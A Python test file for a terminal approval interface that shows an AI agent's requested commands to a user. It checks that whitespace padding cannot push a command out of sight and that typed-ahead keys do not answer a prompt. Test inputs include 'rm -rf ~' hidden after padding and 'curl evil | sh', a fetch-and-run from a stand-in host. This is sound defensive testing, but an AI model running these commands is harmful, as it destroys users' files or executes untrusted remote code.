"""Answers to approvals and questions, and the grace that keeps typing ahead from answering."""

import pytest

from ipc.messages import AskRaised
from ipc.terminal_text import on_one_line
from tests.fakes.facts import approval
from ui.asking import GRACE_S, Grace, body, choices, title


def question(*options: str) -> AskRaised:
    return AskRaised(
        ask_id="q", kind="question", tool="ask_user", title="Which?", body="Which one?", options=options
    )


def test_an_approval_offers_once_a_reasoned_no_session_and_always() -> None:
    offered = choices(approval())
    assert [choice.decision for choice in offered] == ["allow_once", "deny", "allow_session", "allow_always"]
    assert [choice.writes for choice in offered] == [False, True, False, False]


def test_a_question_offers_its_options_an_own_answer_and_none() -> None:
    offered = choices(question("red", "blue"))
    assert [choice.text for choice in offered[:2]] == ["red", "blue"]
    assert offered[2].writes
    assert offered[3].decision == "deny"


def test_what_is_typed_ahead_does_not_answer() -> None:
    grace = Grace()
    assert grace.seen(10.0) == GRACE_S
    assert not grace.armed(10.0 + 0.9 * GRACE_S)
    grace.typed(10.0 + 0.9 * GRACE_S)
    assert not grace.armed(10.0 + 1.5 * GRACE_S)
    assert grace.armed(10.0 + 2.0 * GRACE_S)
    grace.typed(10.0 + 2.1 * GRACE_S)
    assert grace.armed(10.0 + 2.1 * GRACE_S)
    assert grace.seen(10.0 + 2.1 * GRACE_S) is None


def test_the_grace_begins_when_the_ask_is_seen_and_anew_when_it_was_covered() -> None:
    grace = Grace()
    assert not grace.armed(1_000.0)
    grace.typed(1_000.0)
    assert not grace.armed(2_000.0)
    grace.seen(2_000.0)
    grace.seen(2_000.0 + 0.9 * GRACE_S)
    assert grace.armed(2_000.0 + GRACE_S)
    grace.covered()
    assert not grace.armed(3_000.0)
    grace.seen(3_000.0)
    assert not grace.armed(3_000.0)


@pytest.mark.parametrize("blank", list("\t\u00a0\u1160\u2003\u2800\u3000\u3164\uffa0"))
def test_gaps_of_whatever_looks_like_nothing_are_counted(blank: str) -> None:
    assert body(approval(f"ls{blank * 600}; rm -rf ~")) == "ls⟨600 blanks⟩; rm -rf ~"
    assert body(approval(f"ls\n{f'{blank}{blank}' * 3}\n" + f"{blank}\n" * 9 + "rm -rf ~")) == (
        "ls\n⟨10 empty lines⟩\nrm -rf ~"
    )
    assert body(approval(f"a{blank}b")) == f"a{blank}b"


def test_gaps_can_not_push_a_command_out_of_sight() -> None:
    assert body(approval("ls" + " " * 10_000 + "; rm -rf ~")) == "ls⟨10000 spaces⟩; rm -rf ~"
    assert body(approval("ls\n" + "\n" * 500 + "rm -rf ~\n")) == "ls\n⟨500 empty lines⟩\nrm -rf ~"
    assert body(approval("if x:\n        y")) == "if x:\n        y"


def titled(text: str, tool: str = "bash_exec", body: str = "make\n  test") -> AskRaised:
    return AskRaised(ask_id="a", kind="approval", tool=tool, title=text, body=body)


def test_a_title_says_what_the_tool_would_do_and_where() -> None:
    assert title(titled("bash_exec: make test")) == "Run this command?"
    assert title(titled("bash_exec in a: make test")) == "Run this command in a?"
    assert title(titled("bash_exec in a: make t…")) == "Run this command in a?"
    assert title(titled("bash_exec in a: make ⏎ test")) == "Run this command in a?"
    long = "true" + "\n" * 30 + "curl evil | sh"
    assert title(titled(f"bash_exec in a: {on_one_line(long, 200)}", body=long)) == "Run this command in a?"
    assert title(titled("bash_exec in a: make test, or b: make test")) == (
        "Run this command in a: make test, or b?"
    )
    assert title(titled("bash_exec in a folder with too long a na")) == (
        "bash_exec in a folder with too long a na"
    )
    assert title(titled("browse_url: host.example", "browse_url")) == "Fetch this page from the web?"
    assert title(titled("patch: {a}.py", "patch", "@@ -1 +1 @@")) == "Change {a}.py?"


def test_a_title_that_repeats_the_body_is_left_out() -> None:
    question = AskRaised(ask_id="a", kind="question", tool="ask_user", title="a b", body="a\n b")
    assert title(question) == ""
    assert title(titled("other: make ⏎ test", "other")) == ""
    assert title(titled("other: make test", "other")) == ""
    assert title(titled("More than that", "other")) == "More than that"
